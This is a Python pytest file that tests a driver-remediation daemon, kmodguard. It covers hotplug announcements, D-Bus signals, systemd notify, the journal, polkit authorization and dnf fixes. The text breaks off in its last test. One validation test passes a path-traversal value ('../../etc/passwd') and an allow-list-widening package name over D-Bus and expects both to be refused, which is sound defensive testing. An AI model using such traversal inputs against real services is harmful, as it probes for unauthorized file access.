"""`kmodguard daemon` for real: a subprocess under umockdev (this test owns the testbed and sends
the uevents), on a private system-like dbus-daemon with the D-Bus policy as it ships, notifying a
test NOTIFY_SOCKET. What is asserted is what a user sees: signals, `kmodguard status`, the MOTD,
the journal, the package database of the image it fixes.
"""

from __future__ import annotations

import dataclasses
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

import synthetic
from daemon_world import BusClient, DaemonProcess, NotifySocket, SystemBus, Testbed, pci_record
from dnfimage import copy_image, history, image_env, installed
from journal import JOURNAL_CATCHER
from rpmbuild import KVER as RPM_KVER

GPU, EXTRA_XZ, NONE = synthetic.ALIAS["gpu"], synthetic.ALIAS["extra_xz"], synthetic.ALIAS["none"]
KVER = synthetic.KVER
SYSPCI = "/sys/devices/pci0000:00"
SETTLE = 0.3


@pytest.fixture
def bus():
    b = SystemBus()
    yield b
    b.stop()


@pytest.fixture
def testbed():
    tb = Testbed()
    yield tb
    tb.close()


@pytest.fixture
def notify(tmp_path):
    n = NotifySocket(tmp_path / "notify.sock")
    yield n
    n.close()


def daemon_env(runner, tmp_path: Path, policy: str = "", settle: float = SETTLE) -> dict:
    """The world's environment, with the policy given (settle shortened for tests)."""
    etc = Path(runner.env["KMODGUARD_CONFIG_DIR"])
    etc.mkdir(parents=True, exist_ok=True)
    top, _, timeouts = policy.partition("[timeouts]\n")
    (etc / "kmodguard.toml").write_text(f"{top}[timeouts]\nsettle = {settle}\n{timeouts}")
    return {**runner.env, "KMODGUARD_MOTD_DIR": str(tmp_path / "motd.d"), "KMODGUARD_CONTAINER": "none"}


@pytest.fixture
def started(indexed, tmp_path, testbed, notify, bus):
    """The daemon on the synthetic world (offer mode), running, with a bus client listening."""
    daemons = []
    clients = []

    def start(policy: str = "", records: str = "", kver: str = KVER, settle: float = SETTLE, **kw):
        if records:
            testbed.add(records)
        env = daemon_env(indexed, tmp_path, policy, settle)
        d = DaemonProcess(env, testbed, tmp_path, notify=notify, bus=bus, args=["--kver", kver], **kw)
        daemons.append(d)
        notify.wait_for("READY", "1", timeout=60)
        client = BusClient(bus.address)
        clients.append(client)
        return d, client

    yield start
    for c in clients:
        c.close()
    for d in daemons:
        d.stop()
        assert "Traceback" not in d.log_text(), d.log_text()


def add_and_announce(testbed: Testbed, records: str, syspaths: list[str], pace: float | None = None) -> float:
    testbed.add(records)
    t = time.monotonic()
    testbed.uevents(syspaths, "add", pace)
    return t


# --- hotplug, signals, status, MOTD ------------------------------------------------------------

def test_a_device_added_is_announced_by_signal_status_and_motd(started, testbed, indexed, tmp_path):
    daemon, client = started()
    t0 = add_and_announce(testbed, pci_record("0000:00:05.0", GPU), [f"{SYSPCI}/0000:00:05.0"])
    t_signal, body = client.wait_signal("DeviceNeedsDriver", lambda b: b[0] == "0000:00:05.0")
    assert body == ["0000:00:05.0", GPU, "missing", "kernel-modules", "kmg_gpu", body[5]]
    assert "kmg_gpu in kernel-modules" in body[5]
    assert t_signal - t0 < SETTLE + 5  # within a bound: the settle window plus judging
    snap = daemon.wait_until(lambda s: s["needs_driver"] == ["0000:00:05.0"], 10)
    assert snap["mode"] == "offer" and snap["bus"] == "org.kmodguard.Daemon1"
    # `kmodguard status` judges the device itself and attaches the daemon's snapshot
    kmg = dataclasses.replace(indexed, env={**indexed.env, "UMOCKDEV_DIR": testbed.root})
    res = subprocess.run(["umockdev-wrapper", sys.executable, "-m", "kmodguard", "status", "--json", "--kver", KVER],
                         env=kmg.env, capture_output=True, text=True, timeout=60)
    assert res.returncode == 3, res.stderr
    doc = json.loads(res.stdout)
    assert doc["daemon"]["needs_driver"] == ["0000:00:05.0"] and doc["daemon"]["pid"] == daemon.proc.pid
    assert [d["verdict"] for d in doc["devices"]] == ["missing"]
    human = subprocess.run(["umockdev-wrapper", sys.executable, "-m", "kmodguard", "status", "--kver", KVER],
                           env=kmg.env, capture_output=True, text=True, timeout=60).stdout
    assert f"daemon: running since {snap['since']}, mode offer" in human
    # offer mode: the MOTD names the device, the package and the one command that fixes it
    motd = (tmp_path / "motd.d" / "kmodguard").read_text()
    assert "0000:00:05.0: kmg_gpu in kernel-modules 6.1.0-1.kmg (not installed)" in motd
    assert "sudo kmodguard fix" in motd
    # nothing was installed or attempted in offer mode
    assert snap["fixes"] == 0 and snap["last_fix"] is None


def test_removal_updates_status_signal_and_motd(started, testbed, tmp_path):
    daemon, client = started(records=pci_record("0000:00:05.0", GPU))
    daemon.wait_until(lambda s: s["needs_driver"] == ["0000:00:05.0"], 10)  # found by the coldplug scan
    assert (tmp_path / "motd.d" / "kmodguard").exists()
    testbed.uevent(f"{SYSPCI}/0000:00:05.0", "remove")
    testbed.remove(f"{SYSPCI}/0000:00:05.0")
    client.wait_signal("DeviceResolved", lambda b: b == ["0000:00:05.0", "removed"])
    daemon.wait_until(lambda s: s["needs_driver"] == [], 10)
    assert not (tmp_path / "motd.d" / "kmodguard").exists()  # removed when nothing is left to do
    assert client.get_property("NeedsDriver") == []


def test_sixty_four_vfs_added_at_once_are_each_announced_once(started, testbed):
    pf = "0000:00:04.0"
    daemon, client = started(records=pci_record(pf, synthetic.ALIAS["installed"], driver="kmg_core_nic",
                                                attrs={"sriov_numvfs": "64", "sriov_drivers_autoprobe": "1"}))
    vfs = [f"0000:01:{i // 8:02x}.{i % 8}" for i in range(64)]
    records = "".join(pci_record(vf, GPU, parent="/devices/pci0000:00/0000:00:04.0",
                                 links={"physfn": f"../{pf}"}) for vf in vfs)
    add_and_announce(testbed, records, [f"{SYSPCI}/{pf}/{vf}" for vf in vfs])
    daemon.wait_until(lambda s: len(s["needs_driver"]) == 64, 20)
    for vf in vfs:
        client.wait_signal("DeviceNeedsDriver", lambda b: b[0] == vf, timeout=10)
    time.sleep(0.2)
    signals = [b for m, b in client.drain() if m == "DeviceNeedsDriver"]
    assert sorted(b[0] for b in signals) == vfs  # one signal per device, each once


def test_missing_and_unknown_are_published_at_once_a_loadable_device_waits_out_the_settle_window(started, testbed):
    """No installed module matches a missing or unknown device: nothing udev does can change
    that, so the daemon says so at once. A device an installed module matches (loadable) is given
    the settle window to bind first."""
    settle = 5.0
    daemon, client = started(settle=settle)
    missing, loadable, unknown = "0000:00:05.0", "0000:00:06.0", "0000:00:07.0"
    records = (pci_record(missing, GPU) + pci_record(loadable, synthetic.ALIAS["installed"])
               + pci_record(unknown, NONE))
    t_added = time.monotonic()  # adding the devices already sends their first add events
    t0 = add_and_announce(testbed, records, [f"{SYSPCI}/{a}" for a in (loadable, missing, unknown)])
    t_missing, body = client.wait_signal("DeviceNeedsDriver", lambda b: b[0] == missing, timeout=30)
    assert body[2] == "missing"

    def announced(snap, device, verdict):
        return any(e["kind"] == "verdict" and e["device"] == device and e["verdict"] == verdict
                   for e in snap["events"])

    # the snapshot tells of the missing and the unknown device while the loadable one still waits
    snap = daemon.wait_until(lambda s: announced(s, unknown, "unknown"), 30)
    assert announced(snap, missing, "missing") and loadable not in snap["needs_driver"]
    assert not announced(snap, loadable, "loadable")
    t_loadable, body = client.wait_signal("DeviceNeedsDriver", lambda b: b[0] == loadable, timeout=settle + 30)
    assert body[2] == "loadable"
    assert t_missing < t0 + settle  # the missing one did not wait
    assert t_added + settle <= t_loadable  # the loadable one did, from its first event on
    assert [b[0] for m, b in client.drain() if m == "DeviceNeedsDriver"] == [missing, loadable]
    assert sorted(daemon.snapshot()["needs_driver"]) == [missing, loadable]


def test_a_loadable_device_that_binds_is_not_reported_and_its_bind_ends_the_wait(started, testbed):
    settle = 120.0  # far longer than this test waits: only the bind event can end the wait
    daemon, client = started(settle=settle)
    device = "0000:00:06.0"
    testbed.add(pci_record(device, synthetic.ALIAS["installed"]))
    testbed.uevent(f"{SYSPCI}/{device}", "add")
    # udev loads the installed driver, which binds: the kernel says "bind" within the settle window
    testbed.link(f"{SYSPCI}/{device}", "driver", "../../../bus/pci/drivers/kmg_core_nic")
    testbed.uevent(f"{SYSPCI}/{device}", "bind")
    snap = daemon.wait_until(lambda s: any(e.get("device") == device for e in s["events"]), 30)
    assert {e["verdict"] for e in snap["events"] if e.get("device") == device} == {"bound"}  # never loadable
    assert snap["needs_driver"] == []
    assert not any(m == "DeviceNeedsDriver" for m, _ in client.drain())


def test_a_device_removed_while_it_waits_to_bind_is_never_reported(started, testbed):
    daemon, client = started(settle=2.0)
    device = f"{SYSPCI}/0000:00:06.0"
    testbed.add(pci_record("0000:00:06.0", synthetic.ALIAS["installed"]))
    testbed.uevent(device, "add")
    testbed.uevent(device, "remove")
    testbed.remove(device)
    # a device after it, which is announced at once: by then the first one's events were read
    add_and_announce(testbed, pci_record("0000:00:05.0", GPU), [f"{SYSPCI}/0000:00:05.0"])
    client.wait_signal("DeviceNeedsDriver", lambda b: b[0] == "0000:00:05.0")
    time.sleep(2.0 + 1.0)  # past the first device's settle window
    assert [b[0] for m, b in client.drain() if m == "DeviceNeedsDriver"] == ["0000:00:05.0"]
    assert daemon.snapshot()["needs_driver"] == ["0000:00:05.0"]


# --- systemd: sd_notify, watchdog, journal --------------------------------------------------------

def test_notify_ready_after_coldplug_status_watchdog_and_stopping(indexed, tmp_path, testbed, notify):
    testbed.add(pci_record("0000:00:05.0", GPU))
    env = daemon_env(indexed, tmp_path)
    d = DaemonProcess(env, testbed, tmp_path, notify=notify, args=["--kver", KVER],
                      extra_env={"WATCHDOG_USEC": "200000"})
    ready = notify.wait_for("READY", "1")
    # READY=1 comes after the coldplug scan, and its STATUS= already tells what it found
    assert ready["STATUS"] == "mode offer: 1 device(s) need a driver (1 missing)"
    assert d.snapshot()["needs_driver"] == ["0000:00:05.0"]
    time.sleep(1.0)
    pings = [m for m in notify.drain() if m.get("WATCHDOG") == "1"]
    assert 5 <= len(pings) <= 15  # every 0.1 s: half of WatchdogSec, and no more
    d.terminate()
    notify.wait_for("STOPPING", "1")
    assert d.stop() == 0
    assert not d.snapshot_path.exists()  # a stopped daemon leaves no snapshot behind: status says "daemon": null


def _wakeups(pid: int) -> int:
    """Times the process went to sleep and was woken (voluntary context switches)."""
    fields = dict(line.split(":\t", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines()
                  if ":\t" in line)
    return int(fields["voluntary_ctxt_switches"])


def test_idle_without_watchdog_means_no_wakeups(indexed, tmp_path, testbed, notify):
    env = daemon_env(indexed, tmp_path)
    d = DaemonProcess(env, testbed, tmp_path, notify=notify, args=["--kver", KVER])
    notify.wait_for("READY", "1")
    time.sleep(0.5)
    before = _wakeups(d.proc.pid)
    time.sleep(2.0)
    assert _wakeups(d.proc.pid) - before == 0  # asleep in epoll: no polling, no timers
    assert not any("WATCHDOG" in m for m in notify.drain())
    d.stop()


def test_journal_gets_structured_fields(indexed, tmp_path, testbed):
    env = {**daemon_env(indexed, tmp_path), "JOURNAL_STREAM": "8:1"}
    testbed.add(pci_record("0000:00:05.0", GPU))
    d = DaemonProcess(env, testbed, tmp_path, args=["--kver", KVER], stdout=tmp_path / "journal.json",
                      wrap=["unshare", "-m", "--propagation", "private", sys.executable, "-c", JOURNAL_CATCHER])
    d.wait_until(lambda s: s.get("needs_driver") == ["0000:00:05.0"], 30)
    assert d.stop() == 0  # SIGTERM reaches the daemon through the catcher
    entries = json.loads((tmp_path / "journal.json").read_text())["entries"]
    needs = [e for e in entries if e.get("MESSAGE_ID") == "c167d616d03446fb8fe127f7a6b46fa6"]
    assert len(needs) == 1
    e = needs[0]
    assert e["DEVICE"] == f"{SYSPCI}/0000:00:05.0" and e["MODALIAS"] == GPU
    assert e["PACKAGE"] == "kernel-modules" and e["MODULE"] == "kmg_gpu" and e["KMODGUARD_VERDICT"] == "missing"
    assert e["SYSLOG_IDENTIFIER"] == "kmodguard" and e["PRIORITY"] == "4"  # a warning: someone should look
    # MESSAGE is the text alone: the level is PRIORITY=, the logger LOGGER= (no "WARNING:kmodguard.daemon:")
    assert e["MESSAGE"].startswith("0000:00:05.0 needs a driver: missing (kmg_gpu in kernel-modules "), e["MESSAGE"]
    assert e["LOGGER"] == "kmodguard.daemon"
    started_ = [e for e in entries if e.get("MESSAGE_ID") == "e9a8c2903ea14b54998876412b60905f"]
    assert len(started_) == 1 and started_[0]["MESSAGE"].startswith("watching "), started_
    assert "1 device(s) need a driver" in started_[0]["MESSAGE"] and started_[0]["PRIORITY"] == "6"
    assert not [m for m in (x.get("MESSAGE", "") for x in entries) if m.startswith(("INFO:", "WARNING:", "ERROR:"))]


# --- authorization ------------------------------------------------------------------------------------

from unprivileged import NOBODY  # noqa: E402


@pytest.fixture
def public_runtime(indexed):
    """A runtime directory an unprivileged user can read (pytest's tmp dirs are root's only)."""
    d = tempfile.mkdtemp(prefix="kmg-run-", dir="/tmp")
    os.chmod(d, 0o755)
    indexed.env["KMODGUARD_RUNTIME_DIR"] = d
    yield Path(d)
    subprocess.run(["rm", "-rf", d])


def busctl(bus, *args, user=(), check=True):
    res = subprocess.run([*user, "busctl", f"--address={bus.address}", "--json=short", *args],
                         capture_output=True, text=True, timeout=60)
    if check:
        assert res.returncode == 0, res.stderr
    return res


def kmodguard_as(unprivileged, env, *args):
    return subprocess.run(unprivileged.command(*args), env=env, capture_output=True, text=True, timeout=120)


def client_env(bus, runtime: Path, unprivileged) -> dict:
    return unprivileged.env({"PATH": os.environ["PATH"], "DBUS_SYSTEM_BUS_ADDRESS": bus.address,
                             "KMODGUARD_RUNTIME_DIR": str(runtime)})


DAEMON = ("org.kmodguard.Daemon1", "/org/kmodguard/Daemon1", "org.kmodguard.Daemon1")


def test_unprivileged_callers_read_status_and_are_refused_fix_without_polkit(started, public_runtime, bus,
                                                                             unprivileged):
    daemon, client = started(records=pci_record("0000:00:05.0", GPU))
    daemon.wait_until(lambda s: s["needs_driver"] == ["0000:00:05.0"], 10)
    # reading is open to everyone
    res = busctl(bus, "call", *DAEMON, "GetStatus", user=NOBODY)
    doc = json.loads(json.loads(res.stdout)["data"][0])
    assert [d["id"] for d in doc["devices"]] == ["0000:00:05.0"] and doc["daemon"]["mode"] == "offer"
    assert json.loads(busctl(bus, "get-property", *DAEMON, "NeedsDriver", user=NOBODY).stdout)["data"] == ["0000:00:05.0"]
    # changing the system is not: `kmodguard fix` as nobody asks the daemon, which refuses
    res = kmodguard_as(unprivileged, client_env(bus, public_runtime, unprivileged), "fix", "--yes")
    assert res.returncode == 4, (res.stdout, res.stderr)
    assert "only root may do this here: polkit is not running" in res.stderr
    assert "Traceback" not in res.stderr
    res = busctl(bus, "call", *DAEMON, "Reload", user=NOBODY, check=False)
    assert res.returncode != 0 and "polkit is not running" in res.stderr
    assert daemon.snapshot()["fixes"] == 0  # nothing ran
    # the daemon's log: one short line per refused call (method, caller, why), no traceback
    _refusals_logged(daemon, [("Fix", "only root may do this here: polkit is not running"),
                              ("Reload", "only root may do this here: polkit is not running")])


def _refusals_logged(daemon, expected: list[tuple[str, str]]) -> None:
    deadline = time.monotonic() + 10
    while True:
        refused = [r for r in daemon.log_records() if r["message"].startswith("refused ")]
        if len(refused) >= len(expected) or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    assert len(refused) == len(expected), daemon.log_text()
    for record, (method, why) in zip(refused, expected):
        assert record["message"].startswith(f"refused {method} from :") and "(uid 65534)" in record["message"]
        assert why in record["message"] and "\n" not in record["message"] and "exception" not in record
    assert "Traceback" not in daemon.log_text() and "Exception in callback" not in daemon.log_text()


def test_polkit_decides_for_unprivileged_callers(started, public_runtime, bus, tmp_path, unprivileged):
    polkit = subprocess.Popen([sys.executable, "-m", "dbusmock", "--system", "--template", "polkitd"],
                              env={**os.environ, "DBUS_SYSTEM_BUS_ADDRESS": bus.address},
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 30
        while busctl(bus, "status", "org.freedesktop.PolicyKit1", check=False).returncode != 0:
            assert time.monotonic() < deadline, "dbusmock's polkitd did not come up"
            time.sleep(0.1)
        daemon, client = started()  # no device needs anything: an allowed fix has nothing to do
        env = client_env(bus, public_runtime, unprivileged)
        res = kmodguard_as(unprivileged, env, "fix", "--yes", "--json")
        assert res.returncode == 4, res.stderr
        assert "uid 65534 is not allowed to do this (polkit action org.kmodguard.fix)" in res.stderr
        assert json.loads(res.stdout)["error"]["name"] == "NotAuthorized"
        busctl(bus, "call", "org.freedesktop.PolicyKit1", "/org/freedesktop/PolicyKit1/Authority",
               "org.freedesktop.DBus.Mock", "SetAllowed", "as", "1", "org.kmodguard.fix")
        res = kmodguard_as(unprivileged, env, "fix", "--yes", "--json")
        assert res.returncode == 0, res.stderr
        assert json.loads(res.stdout)["outcomes"] == []
        record = daemon.wait_until(lambda s: s["fixes"] == 1, 10)["last_fix"]
        assert record["requested_by"] == "uid 65534" and record["exit_code"] == 0
        # org.kmodguard.reload is a separate action: still refused
        assert busctl(bus, "call", *DAEMON, "Reload", user=NOBODY, check=False).returncode != 0
        _refusals_logged(daemon, [("Fix", "uid 65534 is not allowed to do this (polkit action org.kmodguard.fix)"),
                                  ("Reload", "is not allowed to do this (polkit action org.kmodguard.reload)")])
    finally:
        polkit.terminate()
        polkit.wait(10)


@pytest.mark.parametrize("member, signature, body, name, says", [
    ("Explain", "as", ["1", "pci:v0000\x01bad"], "InvalidInput", "only printable ASCII"),
    ("Explain", "as", ["0"], "InvalidInput", "at least one modalias"),
    ("Explain", "as", ["1", "x" * 5000], "InvalidInput", "the kernel never writes more than 4096"),
    ("Plan", "asa{sv}", ["1", "../../etc/passwd", "0"], "InvalidInput", "is not a device"),
    ("Plan", "asa{sv}", ["1", "0000:00:99.0", "0"], "InvalidInput", "no device '0000:00:99.0'"),
    ("Fix", "asa{sv}", ["0", "1", "packages", "s", "evil"], "InvalidInput", "cannot be chosen for one fix"),
    ("Fix", "asa{sv}", ["0", "1", "initramfs", "s", "sometimes"], "InvalidInput", "must be one of auto, always, never"),
    ("Fix", "asa{sv}", ["0", "1", "backend", "i", "5"], "InvalidInput", "backend must be one of"),
], ids=["control-char", "empty", "too-long", "path-escape", "no-such-device", "widen-allow-list", "bad-initramfs",
        "bad-type"])
def test_bad_input_over_dbus_gets_a_named_error_and_no_traceback(started, bus, member, signature, body, name, says):
    daemon, client = started()
    res = busctl(bus, "call", *DAEMON, member, signature, *body, check=False)
    assert res.returncode != 0
    assert says in res.stderr, res.stderr
    assert "Traceback" not in res.stderr and 'File "' not in res.stderr
    # the error's name, as a D-Bus client sees it
    from dbus_next import MessageType

    reply = client.call(member, signature.replace("as", "as"), _body(signature, body))
    assert reply.message_type == MessageType.ERROR and reply.error_name == f"org.kmodguard.Error.{name}"
    assert daemon.proc.poll() is None  # and the daemon lives on
    assert daemon.snapshot()["fixes"] == 0
    assert "Traceback" not in daemon.log_text() and "Exception in callback" not in daemon.log_text()


def test_the_loop_drops_only_errors_already_answered_on_the_bus():
    """kmodguard.dbus.quiet_answered_errors: a DBusError escaping dbus-next's own reply callback
    is dropped (the caller got it as the error reply); anything else reaches the default handler."""
    import asyncio

    from kmodguard import dbus as D

    loop = asyncio.new_event_loop()
    seen = []
    loop.default_exception_handler = lambda context: seen.append(type(context["exception"]).__name__)
    D.quiet_answered_errors(loop)

    def raising(exc):
        raise exc

    library_callback = type(raising)(raising.__code__, {"__name__": D.LIBRARY + ".aio.message_bus"}, "done")
    try:
        loop.call_soon(library_callback, D.DBusError("org.kmodguard.Error.NotAuthorized", "refused"))
        loop.call_soon(raising, D.DBusError("org.kmodguard.Error.Failed", "not the library's"))
        loop.call_soon(raising, RuntimeError("a bug"))
        loop.call_soon(loop.stop)
        loop.run_forever()
    finally:
        loop.close()
    assert seen == ["DBusError", "RuntimeError"]


def _body(signature, args):
    """busctl's argument words back into a D-Bus body."""
    from dbus_next import Variant

    words = list(args)
    n = int(words.pop(0))
    strings = [words.pop(0) for _ in range(n)]
    if signature == "as":
        return [strings]
    m = int(words.pop(0))
    options = {}
    for _ in range(m):
        key, kind, value = words.pop(0), words.pop(0), words.pop(0)
        options[key] = Variant(kind, int(value) if kind == "i" else value)
    return [strings, options]


def test_the_interface_served_is_the_one_documented(started, bus):
    import xml.etree.ElementTree as ET

    daemon, client = started()
    reply = client.call("Introspect", interface="org.freedesktop.DBus.Introspectable")
    served = ET.fromstring(reply.body[0]).find("interface[@name='org.kmodguard.Daemon1']")
    documented = ET.parse(Path(__file__).resolve().parents[2] / "units/org.kmodguard.Daemon1.xml").getroot() \
        .find("interface[@name='org.kmodguard.Daemon1']")

    def shape(iface):
        out = {}
        for kind in ("method", "signal", "property"):
            for el in iface.findall(kind):
                if kind == "property":
                    out[(kind, el.get("name"))] = (el.get("type"), el.get("access"))
                else:
                    out[(kind, el.get("name"))] = tuple((a.get("direction", "out" if kind == "signal" else "in"),
                                                         a.get("type")) for a in el.findall("arg"))
        return out

    assert shape(served) == shape(documented)


def test_sighup_reloads_the_policy_and_a_bad_one_is_refused(started, tmp_path, indexed):
    daemon, client = started(records=pci_record("0000:00:05.0", GPU))
    daemon.wait_until(lambda s: s["needs_driver"] == ["0000:00:05.0"], 10)
    motd = tmp_path / "motd.d" / "kmodguard"
    assert motd.exists()
    config = Path(indexed.env["KMODGUARD_CONFIG_DIR"]) / "kmodguard.toml"
    config.write_text('mode = "sometimes"\n' + config.read_text())
    daemon.proc.send_signal(signal.SIGHUP)
    deadline = time.monotonic() + 10
    while "configuration not reloaded" not in daemon.log_text():
        assert time.monotonic() < deadline, daemon.log_text()
        time.sleep(0.05)
    assert "mode must be one of off, offer, auto, not 'sometimes'" in daemon.log_text()
    assert client.get_property("Mode") == "offer" and daemon.proc.poll() is None  # the old policy stays
    config.write_text(config.read_text().replace('"sometimes"', '"off"'))
    daemon.proc.send_signal(signal.SIGHUP)
    client.wait_signal("PropertiesChanged", lambda b: b[1].get("Mode") == "off")
    daemon.wait_until(lambda s: s["mode"] == "off", 10)
    assert not motd.exists()  # off: no offers


# --- auto mode: real fixes through real dnf into an image -----------------------------------------

@pytest.fixture
def image(indexed, base_root, repo, tmp_path):
    """The daemon's world is a Fedora-like image (kernel-core + kernel-modules-core installed) whose
    kernel-modules and kernel-modules-extra are indexed from their RPMs; dnf installs into it."""
    root = copy_image(base_root, tmp_path / "root")
    indexed.env.update(image_env(root, tmp_path))
    subprocess.run([sys.executable, "-m", "kmodguard", "index", "build", "--from-rpm",
                    str(repo[1][RPM_KVER]["kernel-modules"]), str(repo[1][RPM_KVER]["kernel-modules-extra"])],
                   env=indexed.env, check=True, capture_output=True)
    return root


AUTO = 'mode = "auto"\nbackend = "dnf"\n[timeouts]\nlock_wait = 60\npackage_manager = 120\n'


def test_auto_mode_fixes_a_burst_in_one_transaction_and_does_not_retry_in_a_storm(started, testbed, image):
    before = len(history(image))  # the image's own making
    daemon, client = started(AUTO, kver=RPM_KVER)
    devices = {"0000:00:05.0": GPU, "0000:00:06.0": GPU, "0000:00:07.0": EXTRA_XZ}
    records = "".join(pci_record(a, m) for a, m in devices.items())
    add_and_announce(testbed, records, [f"{SYSPCI}/{a}" for a in devices])
    _, body = client.wait_signal("RemediationFinished", timeout=180)
    request, code, record = body[0], body[1], json.loads(body[2])
    assert code == 6, (record, daemon.log_text())  # installed; this kernel cannot load modules: still unbound
    assert record["requested_by"] == "auto" and sorted(record["devices"]) == sorted(devices)
    assert record["id"] == request  # the signal names the fix it reports
    assert {p["package"] for p in record["report"]["install"]} == {"kernel-modules", "kernel-modules-extra"}
    assert len(history(image)) == before + 1  # ONE transaction for the burst
    assert any(p.startswith("kernel-modules-6.1.0") for p in installed(image))
    assert any(p.startswith("kernel-modules-extra-6.1.0") for p in installed(image))
    assert "kmodguard: driver packages for" in subprocess.run(
        ["dnf", "--installroot", str(image), "-q", "history", "info", "last"], capture_output=True, text=True).stdout
    snap = daemon.wait_until(lambda s: s["fixes"] == 1 and not s["fix_running"], 10)
    # the modules are installed now: the devices are "loadable", and back off after the failure
    assert {d["id"]: d["verdict"] for d in snap["devices"]} == {a: "loadable" for a in devices}
    # more events for the same devices: judged again, but no new remediation (no retry storm)
    testbed.uevents([f"{SYSPCI}/{a}" for a in devices], "change")
    time.sleep(SETTLE + 1.0)
    snap = daemon.wait_until(lambda s: s["decisions"] >= 3, 10)
    assert snap["fixes"] == 1 and len(history(image)) == before + 1
    backoff = json.loads((Path(daemon.env["KMODGUARD_STATE_DIR"]) / "backoff.json").read_text())
    assert sorted(backoff) == sorted(devices)


@pytest.mark.parametrize("count, pace", [(256, None), (64, 1 / 64)], ids=["256-event-storm", "64-vfs-over-a-second"])
def test_auto_mode_announces_a_storm_one_by_one_and_fixes_it_in_one_transaction(started, testbed, image, count, pace):
    """SR-IOV: N VFs appear (all at once, or over a second); each is announced when judged, and
    the fix, once udev is quiet, is one plan and ONE package transaction (dnf's own history)."""
    before = len(history(image))
    pf = "0000:00:04.0"
    daemon, client = started(AUTO, kver=RPM_KVER, records=pci_record(
        pf, synthetic.ALIAS["installed"], driver="kmg_core_nic",
        attrs={"sriov_numvfs": str(count), "sriov_drivers_autoprobe": "1"}))
    vfs = [f"0000:01:{i // 8:02x}.{i % 8}" for i in range(count)]
    add_and_announce(testbed, "".join(pci_record(vf, GPU, parent=f"/devices/pci0000:00/{pf}",
                                                 links={"physfn": f"../{pf}"}) for vf in vfs),
                     [f"{SYSPCI}/{pf}/{vf}" for vf in vfs], pace)
    _, body = client.wait_signal("RemediationFinished", timeout=300)
    record = json.loads(body[2])
    assert sorted(record["devices"]) == vfs, record  # every VF in the one fix
    # one by one, each once as missing (after the install they are loadable: this kernel cannot load them)
    announced = [b[0] for m, b in client.drain() if m == "DeviceNeedsDriver" and b[2] == "missing"]
    assert sorted(announced) == vfs
    assert len(history(image)) == before + 1
    assert any(p.startswith("kernel-modules-6.1.0") for p in installed(image))
    time.sleep(SETTLE + 1.0)  # nothing left over for a second fix
    snap = daemon.wait_until(lambda s: not s["fix_running"], 30)
    assert snap["fixes"] == 1 and len(history(image)) == before + 1
    assert [m for m, _ in client.drain() if m == "RemediationFinished"] == ["RemediationFinished"]


def test_kmodguard_fix_asks_the_running_daemon(started, testbed, image):
    before = len(history(image))
    daemon, client = started('backend = "dnf"\n', records=pci_record("0000:00:05.0", GPU), kver=RPM_KVER)
    daemon.wait_until(lambda s: s["needs_driver"] == ["0000:00:05.0"], 10)
    env = {**daemon.env, "DBUS_SYSTEM_BUS_ADDRESS": daemon.env["DBUS_SYSTEM_BUS_ADDRESS"]}
    res = subprocess.run(["umockdev-wrapper", sys.executable, "-m", "kmodguard", "fix", "--yes", "--json",
                          "--kver", RPM_KVER], env=env, capture_output=True, text=True, timeout=300)
    assert res.returncode == 6, res.stderr
    assert "the kmodguard daemon runs: asking it to do the fix" in res.stderr
    assert "daemon: step install" in res.stderr  # its progress, relayed from the daemon's signals
    doc = json.loads(res.stdout)
    assert [o["id"] for o in doc["outcomes"]] == ["0000:00:05.0"]
    assert len(history(image)) == before + 1
    assert daemon.wait_until(lambda s: s["fixes"] == 1, 10)["last_fix"]["requested_by"] == "root"
    # the device now backs off: asked again, the daemon has nothing to do, and the command says why
    res = subprocess.run(["umockdev-wrapper", sys.executable, "-m", "kmodguard", "fix", "--yes", "--json",
                          "--kver", RPM_KVER], env=env, capture_output=True, text=True, timeout=300)
    assert res.returncode == 3, res.stderr
    assert [b["id"] for b in json.loads(res.stdout)["backing_off"]] == ["0000:00:05.0"]
    assert len(history(image)) == before + 1


def _rpm_lock(root: Path) -> Path:
    return root / "root/.rpmdb/.rpm.lock" if (root / "root/.rpmdb").is_dir() else root / "var/lib/rpm/.rpm.lock"


@pytest.mark.parametrize("killed", ["daemon", "daemon-and-fix"])
def test_killed_during_a_remediation_a_restart_converges(started, testbed, image, notify, killed):
    import fcntl

    before = len(history(image))
    daemon, client = started(AUTO, kver=RPM_KVER)
    state_dir = Path(daemon.env["KMODGUARD_STATE_DIR"])
    with open(_rpm_lock(image), "rb+") as lock:
        fcntl.lockf(lock, fcntl.LOCK_EX)  # another package manager holds rpm's lock: the fix waits
        add_and_announce(testbed, pci_record("0000:00:05.0", GPU), [f"{SYSPCI}/0000:00:05.0"])
        client.wait_signal("FixProgress", lambda b: "waiting for the package lock" in b[1], timeout=60)
        fixer = int((state_dir / "fix.lock").read_text().split()[0])
        daemon.kill_group()  # kill -9 the daemon (the fix runs in a session of its own)
        if killed == "daemon-and-fix":
            os.killpg(fixer, signal.SIGKILL)
        # the fix took the request before it acted: no longer pending, not yet done
        assert not (state_dir / "fix-request.json").exists() and (state_dir / "fix-request.taken.json").exists()
    # the lock is free again; a new daemon converges
    notify.messages.clear()
    daemon2, _ = started(AUTO, kver=RPM_KVER)
    snap = daemon2.wait_until(lambda s: s["last_fix"] is not None and not s["fix_running"]
                              and not (state_dir / "fix-request.json").exists()
                              and not (state_dir / "fix-request.taken.json").exists(), 180)
    assert len(history(image)) == before + 1  # exactly one transaction, whoever finished it
    assert any(p.startswith("kernel-modules-6.1.0") for p in installed(image))
    assert snap["last_fix"]["exit_code"] == 6
    if killed == "daemon-and-fix":
        assert snap["last_fix"]["requested_by"] == "resume of auto"
    else:  # the fix outlived the daemon and finished on its own
        assert snap["last_fix"]["requested_by"] == "auto", daemon2.log_text()
    assert {d["id"]: d["verdict"] for d in snap["devices"]} == {"0000:00:05.0": "loadable"}


FIX_FINISHED_ID = "d122649fd7854f629fea458b7bce3c1e"  # kmodguard.journal.MESSAGE_IDS["fix-finished"]


@pytest.mark.parametrize("when", ["finishes-while-the-new-daemon-waits", "finished-while-no-daemon-ran"])
def test_a_restart_during_a_fix_reports_that_fix_once_and_runs_it_once(started, testbed, image, notify, when):
    """`systemctl restart kmodguard.service` while its fix runs (SIGTERM: the fix lives on in a
    session of its own): the new daemon runs no fix of its own while the old one holds the lock,
    and reports the old one's end as it reports its own: event, RemediationFinished, journal."""
    import fcntl

